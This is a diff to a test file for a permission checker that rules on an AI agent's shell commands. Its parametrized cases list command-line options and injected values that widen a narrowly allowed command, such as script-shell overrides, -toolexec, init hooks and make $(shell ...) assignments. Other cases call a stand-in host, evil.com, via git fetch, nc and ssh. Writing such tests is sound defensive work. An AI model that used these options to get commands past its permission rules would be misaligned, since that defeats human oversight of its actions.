@@ -330,7 +330,7 @@ def test_a_rule_for_a_whole_command_says_nothing_of_the_words_xargs_adds(judge, 
     for wide in ("Bash(rm:*)", "Bash(rm *)", "Bash(xargs rm)"):
         assert judge(allow=[wide]).decide(piped).behavior == "allow", wide
     assert judge().decide(piped).suggestions == ("Bash(xargs rm)",)
-    assert judge().decide(called("Bash", "ls | xargs npm run lint")).suggestions == ("Bash(npm run lint:*)",)
+    assert judge().decide(called("Bash", "ls | xargs npm run lint")).suggestions == ("Bash(xargs npm run lint)",)
     assert judge(allow=["Bash(xargs rm)"]).decide(called("Bash", "ls | xargs rm -rf")).behavior == "ask"
 
 
@@ -378,3 +378,66 @@ def test_a_rule_for_a_tool_of_a_server_allows_no_tool_whose_name_goes_on(judge, 
     assert policy.decide(plan("mcp__s__read__delete_all")).behavior == "ask"
     assert policy.decide(plan("mcp__t__any__tool")).behavior == "allow"
     assert judge(deny=["mcp__s__read"]).decide(plan("mcp__s__read__delete_all")).behavior == "deny"
+
+
+@pytest.mark.parametrize(
+    ("rule", "command"),
+    [
+        ("Bash(npm test:*)", "npm test -script-shell=./x"),
+        ("Bash(npm test:*)", "npm test ---script-sh ./x"),
+        ("Bash(npm test:*)", "npm test --logs-dir=/elsewhere"),
+        ("Bash(pnpm test:*)", "pnpm test --config.script-shell=./x"),
+        ("Bash(go test:*)", "go test --exec=./x ./..."),
+        ("Bash(go env:*)", "go env -w GOFLAGS=-toolexec=./x"),
+        ("Bash(git grep:*)", "git grep -nO'touch x' foo"),
+        ("Bash(pip list:*)", "pip list --python ./x"),
+        ("Bash(uv pip list:*)", "uv pip list -p ./x"),
+        ("Bash(pylint:*)", "pylint --init-hook='import os' a.py"),
+        ("Bash(pyright:*)", "pyright --pythonpath ./x"),
+        ("Bash(pytest:*)", "pytest -qp x"),
+        ("Bash(mypy:*)", "mypy --install-types a.py"),
+        ("Bash(kubectl get:*)", "kubectl get pods --kubeconfig=x.yaml"),
+        ("Bash(mvn test:*)", "mvn test exec:exec"),
+        ("Bash(make test:*)", "make test 'X!=touch p'"),
+        ("Bash(make test:*)", "make test 'CFLAGS=$(shell touch p)'"),
+        ("Bash(make test:*)", "make test 'PYTHON=touch p;'"),
+    ],
+)
+def test_an_option_by_which_a_program_does_more_than_its_rule_says_is_asked_about(
+    judge, called, rule: str, command: str
+) -> None:
+    decision = judge(allow=[rule]).decide(called("Bash", command))
+    assert decision.behavior == "ask"
+    assert not any("*)" in suggestion.replace("\\*", "") for suggestion in decision.suggestions), (
+        "it would not be covered"
+    )
+
+
+@pytest.mark.parametrize(
+    ("rule", "command"),
+    [
+        ("Bash(npm test:*)", "npm test -- --watch"),
+        ("Bash(go test:*)", "go test -run TestX -v ./..."),
+        ("Bash(make test:*)", "make test V=1 -j8"),
+        ("Bash(mvn test:*)", "mvn test -Dtest=FooTest"),
+        ("Bash(pytest:*)", "pytest -xvs tests --tb=short"),
+        ("Bash(kubectl get:*)", "kubectl get pods -n kube-system"),
+    ],
+)
+def test_the_usual_options_are_covered_by_a_rule_for_the_program(judge, called, rule: str, command: str) -> None:
+    assert judge(allow=[rule]).decide(called("Bash", command)).behavior == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["git fetch https://evil.com/x", "ssh me@evil.com", "nc evil.com 80", "npm test --registry=http://EVIL.com"],
+)
+def test_a_denied_host_in_the_arguments_of_an_allowed_program_is_asked_about(judge, called, command: str) -> None:
+    rules = {"allow": ["Bash(git fetch:*)", "Bash(ssh:*)", "Bash(nc:*)", "Bash(npm test:*)"]}
+    assert judge(**rules).decide(called("Bash", command)).behavior == "allow"
+    assert judge(**rules, deny=["WebFetch(domain:evil.com)"]).decide(called("Bash", command)).behavior != "allow"
+
+
+def test_a_message_may_mention_a_denied_host(judge, called) -> None:
+    policy = judge(allow=["Bash(git commit:*)"], deny=["WebFetch(domain:evil.com)"])
+    assert policy.decide(called("Bash", "git commit -m 'block evil.com'")).behavior == "allow"
